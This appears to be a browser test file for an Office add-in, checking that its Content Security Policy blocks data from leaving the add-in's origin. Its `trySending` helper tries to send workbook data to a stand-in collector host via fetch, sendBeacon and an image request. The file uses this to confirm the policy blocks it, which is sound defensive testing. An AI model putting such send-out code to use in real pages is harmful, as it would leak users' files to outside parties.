import { join } from 'path';
import { builtPane } from './support/built-pane';
import { OFFICE_JS_CDN, runsBrowserTests } from './support/chromium';

const SAMPLE = join(__dirname, '..', '..', 'samples', 'integrity-survey-sample.xlsx');
/** Somewhere a script on the page might try to send a workbook. */
const ELSEWHERE = 'https://collector.example.org/upload';

interface Request {
  readonly url: string;
  readonly type: string;
}

interface Violation {
  readonly blockedURI: string;
  readonly directive: string;
}

/** Every Content Security Policy violation of the page, from before its first script. */
const RECORD_VIOLATIONS = `
  window.violations = [];
  document.addEventListener('securitypolicyviolation', (event) =>
    window.violations.push({ blockedURI: event.blockedURI, directive: event.effectiveDirective }));
`;
/** Run in the page. */
const recorded = (): Violation[] => (window as unknown as { violations: Violation[] }).violations;
/** Run in the page: what any script there could try, to send data away, each a different directive. */
const trySending = async (address: string) => {
  await fetch(address, { method: 'POST', body: 'workbook' }).catch(() => undefined);
  navigator.sendBeacon(address, 'workbook');
  const image = new Image();
  image.src = `${address}.png`;
  await new Promise((resolve) => setTimeout(resolve, 200));
};

/** The policy's directives by name, each with its sources. */
function directives(policy: string): Record<string, string[]> {
  const parsed = policy.split(';').map((directive) => directive.trim().split(/\s+/));
  return Object.fromEntries(parsed.map(([name, ...sources]) => [name, sources]));
}

(runsBrowserTests() ? describe : describe.skip)('the built pane’s Content Security Policy', () => {
  const built = builtPane({ eachTest: true });

  it('allows scripts from the add-in’s origin and Microsoft’s CDN only', async () => {
    const { page } = built.pane;
    await page.goto(built.url);
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(directives(policy!)['script-src']).toEqual(["'self'", 'https://appsforoffice.microsoft.com']);
    expect(await page.locator('script#office-js').getAttribute('src')).toBe(`${OFFICE_JS_CDN}office.js`);
  });

  it('lets the pane open, check, write and download the sample workbook, and blocks only what would leave the add-in’s origin', async () => {
    const { context, page } = built.pane;
    const requests: Request[] = [];
    // A request the policy blocks never leaves the browser (Chromium still reports it, failed as blocked).
    context.on('request', (request) => requests.push({ url: request.url(), type: request.resourceType() }));
    context.on('requestfailed', (request) => {
      if (request.failure()?.errorText === 'csp')
        requests.splice(
          requests.findIndex((r) => r.url === request.url()),
          1,
        );
    });
    await page.addInitScript(RECORD_VIOLATIONS);
    await page.goto(built.url);
    const origin = new URL(built.url).origin;

    await page.getByLabel('Open workbook').setInputFiles(SAMPLE);
    await page.getByRole('button', { name: 'Check', exact: true }).click();
    await page.getByText(/ in \d+ submissions\.$/).waitFor();
    await page.getByRole('button', { name: 'Write Validation sheet' }).click();
    await page.getByText('The Validation sheet lists every issue.').waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download workbook' }).click()]);
    expect(download.suggestedFilename()).toBe('integrity-survey-sample-results.xlsx');

    await page.evaluate(trySending, ELSEWHERE);
    const violations = await page.evaluate(recorded);

    // Nothing of the add-in's own is blocked: only what would leave its origin (office.js, outside Office,
    // also tries to frame Microsoft's telemetry service, and is stopped here too).
    const leavesOrigin = (address: string) => URL.canParse(address) && /^https?:$/.test(new URL(address).protocol) && new URL(address).origin !== origin;
    expect(violations.filter((v) => !leavesOrigin(v.blockedURI))).toEqual([]);
    // Blocked by the policy before any request: the requests below never show them.
    expect(violations).toEqual(
      expect.arrayContaining([
        { blockedURI: ELSEWHERE, directive: 'connect-src' },
        { blockedURI: `${ELSEWHERE}.png`, directive: 'img-src' },
      ]),
    );

    const fromCdn = (r: Request) => r.type === 'script' && r.url.startsWith(OFFICE_JS_CDN);
    expect(requests.filter((r) => new URL(r.url).origin !== origin && !fromCdn(r))).toEqual([]);
    expect(requests).toContainEqual({ url: `${OFFICE_JS_CDN}office.js`, type: 'script' });
  });
});
